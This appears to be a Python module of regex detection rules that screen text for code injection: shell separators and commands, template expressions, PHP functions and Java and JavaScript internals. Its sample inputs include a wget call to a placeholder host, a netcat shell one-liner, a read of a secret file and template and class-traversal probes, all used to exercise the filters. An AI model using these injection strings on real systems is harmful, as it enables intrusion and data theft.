"""Code injection into a shell or a server language: commands, templates, PHP, Java and JavaScript."""

from __future__ import annotations

from service.stages.suspicion_rules.rule import Rule

# Programs whose names are no English words, and those whose names are.
_PROGRAM = (
    r"(?:ansible[a-z-]{0,10}|apt(?:-get)?|awk|gawk|base(?:32|64|nc)|bash|busybox|bzip2|chgrp|chmod|chown|chroot|chef-client|cp|cpulimit"
    r"|crontab|csh|curl|dd|df|dig|dmesg|dnf|docker|dpkg|du|[ef]?grep|env|flock|gcc|gdb|gunzip|gzip|hexdump|hostname|htop|iconv|id"
    r"|i[fp]config|ionice|irb|iw[rm]i?|iex|journalctl|jq|ksh|ldconfig|ln|ls|lsof|ltrace|lynx|lz4|mkdir|mkfifo|mktemp|mtr|mv|mysql|nano"
    r"|nasm|nawk|n?cat|nc|netsh|netstat|nmap|node|nohup|npm|nslookup|openssl|perf|perl|php[0-9]?|pip[3x]?|pkexec|powershell|printenv|printf|ps"
    r"|psql|pwd|python[23]?|rcp|rlogin|rlwrap|rm|rmdir|rmt[a-z-]{0,5}|rpm|rsync|ruby|scp|sed|setarch|sftp|sh|shuf|socat|sqlite3"
    r"|ssh(?:-[a-z]{3,9})?|stdbuf|strace|su|sudo|svn|sysctl|sysinfo|systemctl|systeminfo|tac|tar|taskset|tasklist|tcpdump|tclsh|telnet|tftp|tmux"
    r"|traceroute|tracert|tshark|ulimit|uname|uniq|unlink|unlzma|unpigz|unrar|unxz|unzip|unzstd|useradd|usermod|uudecode|vim?"
    r"|vimdiff|wc|wget|whoami|whois|wmic|xargs|xterm|xxd|xz|yum|zip|zless|zsh|zstd(?:cat)?|zypper|certutil|bitsadmin|mshta|regsvr32|rundll32"
    r"|schtasks|[cw]script|ipcs?|[a-z]{2,4}cat|[a-z]{2,3}grep)"
)
_ENGLISH_PROGRAM = (
    r"(?:alias|at|cat|comm|column|cut|date|dir|echo|expand|expect|export|fetch|find|finger|fold|git|head|host|install|join|kill|last|less|look"
    r"|mail|make|man|more|mount|net|nice|paste|ping|reg|rev|route|screen|script|service|set|shutdown|sleep|sort|split|strings|tail|tee|time|timeout"
    r"|top|touch|type|view|wall|watch|which|who|yarn)"
)
_SEPARATOR = r"(?:[;|`\n]|&&|\$\(|<\(|[\"'0-9] ?&|^& ?|^\W{1,4})"
_FOLDER = r"(?:/[a-z/]{1,20}/)?"

RULES = (
    Rule(
        "code-injection",
        "piped-command",
        rf"{_SEPARATOR} ?[`\"'({{$]{{0,3}}{_FOLDER}{_PROGRAM}(?:[`\"')}}]{{0,3}}(?:$|[;|`\n#\\&<>$()])|[\"']? [^ ]|[{{,*+@])",
        "A separator of a shell followed by a program.",
        stops="127.0.0.1; wget http://x.example/a",
        passes="moms & dads; python and ruby developers | R&D",
    ),
    Rule(
        "code-injection",
        "piped-english-command",
        rf"{_SEPARATOR} ?[`\"'({{]{{0,3}}{_FOLDER}{_ENGLISH_PROGRAM}(?:[`\"')}}]{{1,3}}|[;|`\n#\\&<$]"
        r"| (?:-|[/\\~%|&;\"'<$!*+.][^ ]|[a-z]:[\\*]|[0-9]{1,6}$|[0-9]{1,3}\.|user |local|https?:|[<>] ?[a-z/])"
        r"|{,)|^[^a-z]{1,4} ?(?:[a-z]{1,12} ?){0,1}(?:[;|&`]|\$\() ?[`\"']?[a-z]{2,8}[`\"']?$",
        "The same with a program whose name is a word: here its arguments must be those of a shell.",
        stops="x; cat /srv/secret",
        passes="moms & dads; top brands for kids | time savers",
    ),
    Rule(
        "code-injection",
        "leading-separator",
        r"^(?:;|\||&&|`|\|\|)[ '\"]{0,3}[a-z./][a-z0-9_./-]{0,20}['\"]?(?: -|[;|)`'\"&]|$(?<=[;|&][a-z]{2}))|^(?:;|\|)[a-z./-]{2,20} [a-z/-]|^(?:[;|]|\|\||&&) ?$",
        "A text that begins with a separator of a shell: what comes next is meant to run.",
        stops=";rmt --version",
        passes="each; every",
    ),
    Rule(
        "code-injection",
        "command-line",
        rf"(?:^|[^a-z0-9-])(?:{_PROGRAM}|{_ENGLISH_PROGRAM}) (?:-{{1,2}}[a-z][a-z-]{{0,12}} )?(?:[/~]\.?[a-z]|[a-z]:\\|%[a-z]|-[lar]{{2,3}}\b|'[^']|-[a-z] [^ ])"
        r"|^(?:nohup|strace|sudo|which|xargs|pip[x3]? install|rc|alias) [a-z0-9+.= -]{2,40}$(?<=[a-z=])(?<! of)|^sleep [0-9]{1,3}$|(?:curl|wget) (?:-[a-z] )?https?:"
        r"|net (?:user|localgroup) [a-z]{1,20} |netsh [a-z]{2,12} set|reg add|ping -[a-z] [0-9]|ansible-[a-z]{3,10} |^'[a-z]{2,8}' [a-z]{2,8} [a-z]{2,8}$|^/[a-z]{1,4}/[a-z/\[\]]{2,12} -",
        "A command line by itself: a program with arguments that only a shell takes.",
        stops="nc -lvvp 4444 -e /bin/sh",
        passes="ls 300 lexus, nc 8000 controller, bash/zsh users",
    ),
    Rule(
        "code-injection",
        "telling-command",
        r"(?:^|[^a-z0-9])(?:whoami|ifconfig|ipconfig|netstat|systeminfo|sysinfo|uname|nslookup|printenv|lsof)(?:$|[;|&`)'\" ])"
        r"|(?:get|set|new|invoke|start|stop|add|remove|write|out|import|export)-(?:object|item|process|content|webrequest|expression|command|childitem"
        r"|service|sleep|host|wmimethod|module)(?![a-z])",
        "A program that tells about the machine it runs on, or an order of PowerShell.",
        stops="uname -a",
        passes="sign-in service, add-on items",
    ),
    Rule(
        "code-injection",
        "shell-expansion",
        r"\$\(|\$\{?ifs|(?:^|[^a-z0-9])`[a-z/{$(]|[a-z]`` ?|[;|&<]\{[^}]|\{,|\{[a-z]{1,8},-|\(\) ?\{|:\(\)|<<<|<\(|(?:^|[^a-z0-9$])\$(?:cmd|shell|@)"
        r"|[a-z]{2,8}=\$[\"'a-z]|/[?*\[][a-z]?[?*\]][a-z/?]|[a-z]\{[a-z],[a-z]{1,6}\}|\\!|%0a/",
        "Substitution, groups and wildcards of a shell.",
        stops="cat${IFS}x",
        passes="$150k+ households & {kids}, didn`t",
    ),
    Rule(
        "code-injection",
        "shell-redirection",
        r"\|\| ?$|&& ?$|> ?[a-z0-9_]{1,12}\.(?:php|sh|txt|jsp|aspx?)|[\"')] ?\|\|? ?[a-z/]{2,20}\|?$|\. ?\\?[\"']?shell\b",
        "Output into a file, or a chain of commands that goes on.",
        stops="echo x > rfi.php",
        passes="interest > php.net visitors",
    ),
    Rule(
        "code-injection",
        "batch-syntax",
        r"(?:^|[^a-z])for (?:/[dflr] )?(?:\"[^\"]{0,30}\" |[a-z]:\\{1,2} |[a-z]:\\[a-z]{1,12}\\? )?%{1,2}[a-z0-9/]{0,8} in ?\(|for /[dflr] "
        r"|(?:^|[^a-z])if (?:/i )?(?:not )?(?:exist [a-z0-9.\\:]{1,40} (?:\(|[a-z])|defined [a-z]{1,12} ?\(|errorlevel [0-9]|[\"\[(%a-z0-9!][^=<>]{0,20}==)"
        r"|[%\"\])0-9a-z!] (?:equ|neq|lss|leq|gtr|geq) [\"%\[(0-9]|%[a-z_]{2,12}%",
        "A loop or a condition of the Windows command line.",
        stops="for /f %a in (text) do abc",
        passes="cars for 50% in (or near) texas, if any",
    ),
    Rule(
        "code-injection",
        "template",
        r"\{\{[^{}]{0,80}(?:[(*\[|'\"+]|__|config|request|self|[0-9] ?-)|\$\{[^{}]{0,80}(?:[(*:'\"$\[+]|__|\.(?:class|get|env)|[0-9])|\$\{\{|[{ ]\{?\$\{"
        r"|\{% ?[a-z]|%\}|<% ?[a-z=0-9]|#\{[^{}]{0,40}[(*0-9]|@\{ ?\[|\{\$[a-z]|\[\[[0-9$] ?[*{]|\{[a-z0-9]\} ?\(|<#[a-z]|#set ?\(|%\{[#(]|\*\{[0-9t]|\{[a-z_]{3,20}\([\"']",
        "An expression of a template engine.",
        stops="{{7*7}}",
        passes="{{campaign.name}} and ${AUCTION_PRICE} macros",
    ),
    Rule(
        "code-injection",
        "language-internals",
        r"__[a-z]{3,20}__|get_user_file|(?:^|[^a-z0-9])\$[a-z_][a-z0-9_]{0,20} ?(?:[\[(@]|=[^=]|#[a-z]{1,9} ?\[)|constructor\.prototype|prototype\[|\$_[a-z]{3,8}",
        "The attributes and variables by which one reaches a language from a template.",
        stops="''.__class__.__mro__",
        passes="__init bold__ and $ave (big)",
    ),
    Rule(
        "code-injection",
        "php-tag",
        r"<\?(?: ?(?:php|=|xml ?:)|$)|\[/?php\]|o:[0-9]{1,3}:\"|a:[0-9]{1,3}:\{|'[a-z]{2,6}' ?\. ?'[a-z]{2,6}'|^[a-z_]{2,20}(?:\.[a-z_]{3,40})? ?= ?(?:true|false|on|off)$"
        r"|^[a-z]{2,12}\.[a-z_]{3,40} ?= ?[0-9]|\[ ?system ?\]|\(system\)|\(\"?system ?\"?\)",
        "A tag, a serialised object or a setting of PHP.",
        stops="opcache.jit_max=50",
        passes="brand = true religion",
    ),
    Rule(
        "code-injection",
        "server-call",
        r"(?:^|[^a-z])(?:system|exec|passthru|popen|eval|include|require|assert|serialize)(?:_once)? ?[\[(] ?[\"'$@\[\\/]|[a-z0-9]{2,20}_[a-z0-9_]{2,30}(?:\(|=\()"
        r"|[a-z0-9_]{3,30} ?\( ?\)(?!\w)|(?:^|[^a-z])(?:un)?serialize\(|(?:php|fsock|f(?:open|write|puts|gets|read|putcsv)|str|ob|mb|ctype|curl|gz|bz|posix|proc|preg|hebrev|nl2br"
        r"|checkdate|symlink|readlink|readfile|opendir|scandir|unlink|parse|var_dump|print_r|rmdir|mkdir|chmod|chown|move_uploaded)[a-z0-9_]{0,20}\([a-z\"'$)]",
        "A call of a function of PHP and its like.",
        stops="shell_exec('ls')",
        passes="system (home audio), exec (c-level), php (developers)",
    ),
    Rule(
        "code-injection",
        "java-class",
        r"(?:^|[^a-z0-9.])javax?\.[a-z]{2,12}\.[a-z]|(?:com|org|net|sun)\.(?:opensymphony|apache|springframework|codehaus|mozilla|sun|hibernate|jboss|rowset)\.?[a-z]{0,9}"
        r"|processbuilder|getruntime|runtime\.exec|getclass\(|forname\(|classloader|ognl|\$\{ ?jndi|unmarshal|base64data|xmldecoder|scriptengine"
        r"|(?:invoker|instantiate|clone|for|while|constant|chained|prototype|switch|transformed|lazy|map)(?:transformer|closure|factory|clonefactory|serializationfactory)",
        "Classes by which Java starts programs.",
        stops="java.lang.runtime",
        passes="java.com visitors, process builders",
    ),
    Rule(
        "code-injection",
        "script-engine",
        r"(?:^|[^a-z])(?:process|require|global|root|module|exports) ?\[[\"'a-z]|module\.exports|child_process|mainmodule|process\.(?:env|binding|exit|kill|spawn)|fs\.(?:read|write)"
        r"|while ?\( ?[!a-z0-9\"]|function ?[a-z]{0,10}\([a-z,]{0,10}\) ?[{:]|new date ?[)(]|(?:^|[^a-z])do ?\{|(?:^|[^a-z])(?:console|process|math|object|json|array|reflect"
        r"|kernel|file|io|dir|open3|buffer)\.[a-z]{2,20}\(|require\([\"']|new function\b|%x[({]|@[a-z_]{1,15}\([\"']",
        "Objects by which JavaScript or Ruby start programs.",
        stops="process['env']",
        passes="javascript and process engineers",
    ),
)
